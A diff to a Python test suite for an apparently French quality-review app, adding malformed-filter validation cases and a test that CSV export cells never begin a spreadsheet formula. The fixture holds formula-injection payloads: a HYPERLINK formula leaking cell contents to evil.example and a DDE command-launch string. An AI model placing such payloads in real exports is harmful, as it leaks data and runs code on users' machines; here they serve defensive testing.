@@ -212,9 +212,28 @@ def test_quality_staff_read_closed_conversations_and_exports_pseudonymised_only(
 def test_bad_filters_get_a_french_error(client):
     login(client, "qualite")
     for query, words in (("outcome=perdu", "Issue inconnue"), ("rating=9", "Note invalide"), ("from=hier", "Date invalide"),
-                         ("service=ailleurs", "Service inconnu"), ("flagged=peut-etre", "signalement")):
-        answer = client.get(f"/quality/conversations?{query}")
-        assert answer.status_code == 422 and words in answer.json()["detail"], query
+                         ("service=ailleurs", "Service inconnu"), ("flagged=peut-etre", "signalement"),
+                         # adversarial pass: superscript digits and the last day there is crashed the handler
+                         ("rating=²", "Note invalide"), ("to=9999-12-31", "Date invalide"), ("from=20261130", "Date invalide")):
+        for path in ("/quality/conversations", "/quality/export.csv"):
+            answer = client.get(f"{path}?{query}")
+            assert answer.status_code == 422 and words in answer.json()["detail"], (path, query)
+    answer = client.get("/stats/data?from=9999-12-01&to=9999-12-31")
+    assert answer.status_code == 422 and "Date invalide" in answer.json()["detail"]
+
+
+def test_an_export_cell_never_starts_a_spreadsheet_formula():
+    from web.quality import drafts_csv
+
+    record = {"conversation": "c1", "service": "moel", "closed_at": None, "draft_id": 1, "decided_at": None,
+              "question": '=HYPERLINK("http://evil.example/?"&A1,"clic") je suis <PERSONNE_1>',
+              "payload": {"draft": "+33 est un indicatif", "citations": []}, "outcome": "edited", "counsellor": "c",
+              "final_text": "@SUM(1+1)*cmd|' /C calc'!A0", "answer_sent": "-2 points", "reject_reason": "\t=1+1",
+              "rating": None}
+    [row] = list(csv.DictReader(io.StringIO(drafts_csv([record]))))
+    for column in ("question", "draft", "final_text", "answer_sent", "reject_reason"):
+        assert row[column][:1] not in "=+-@\t\r", column
+    assert row["question"] == "'" + record["question"]  # the text itself is kept
 
 
 @pytest.mark.parametrize("path", ["/quality", "/stats"])
